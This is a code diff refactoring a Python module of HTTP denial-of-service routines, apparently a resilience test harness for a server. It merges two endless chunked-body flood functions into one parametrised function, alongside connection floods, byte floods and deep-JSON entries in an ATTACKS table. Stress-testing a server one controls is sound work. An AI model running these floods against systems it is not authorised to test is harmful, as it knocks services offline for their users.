@@ -15,6 +15,7 @@ import ssl
 import sys
 from collections.abc import Awaitable, Callable
 from contextlib import suppress
+from functools import partial
 
 from attrs import define
 
@@ -137,15 +138,15 @@ async def _byte_flood(target: Target) -> None:
         connection.close()
 
 
-async def _endless_chunks(target: Target) -> None:
+async def _chunks(chunks: bytes, target: Target) -> None:
+    """A body that never ends, of these again and again, on one connection behind the other."""
     head = b"POST %b HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n" % KEY
-    chunk = b"4000\r\n%b\r\n" % (b"1" * 0x4000)
     while True:
         connection = await target.connect()
         try:
             await target.send(connection, head)
             while True:
-                await target.send(connection, chunk)
+                await target.send(connection, chunks)
         except OSError:
             target.refused += 1
         finally:
@@ -198,22 +199,8 @@ async def _half_closed_socket(target: Target) -> None:
         await target.until_closed(connection)
 
 
+_LONG_CHUNK = b"4000\r\n%b\r\n" % (b"1" * 0x4000)
 _BYTE_CHUNKS = b"1\r\n1\r\n" * 10_000
-
-
-async def _byte_chunks(target: Target) -> None:
-    """A body in chunks of one byte, on one connection behind the other."""
-    head = b"POST %b HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n" % KEY
-    while True:
-        connection = await target.connect()
-        try:
-            await target.send(connection, head)
-            while True:
-                await target.send(connection, _BYTE_CHUNKS)
-        except OSError:
-            target.refused += 1
-        finally:
-            connection.close()
 
 
 async def _byte_chunks_tls(target: Target) -> None:
@@ -322,10 +309,10 @@ ATTACKS: dict[str, Attack] = {
     "byte-idle": _many(MANY, _byte_idle),
     "connection-flood": _many(100, _flood),
     "byte-flood": _many(100, _byte_flood),
-    "endless-chunks": _many(8, _endless_chunks),
+    "endless-chunks": _many(8, partial(_chunks, _LONG_CHUNK)),
     "semicolons": _many(8, _semicolons),
     "deep-json": _many(8, _deep_json),
-    "byte-chunks": _many(AT_MOST, _byte_chunks),
+    "byte-chunks": _many(AT_MOST, partial(_chunks, _BYTE_CHUNKS)),
     "byte-chunks-tls": _many(AT_MOST, _byte_chunks_tls),
     "arguments": _many(AT_MOST, _arguments),
     "arguments-tls": _many(AT_MOST, _arguments_tls),
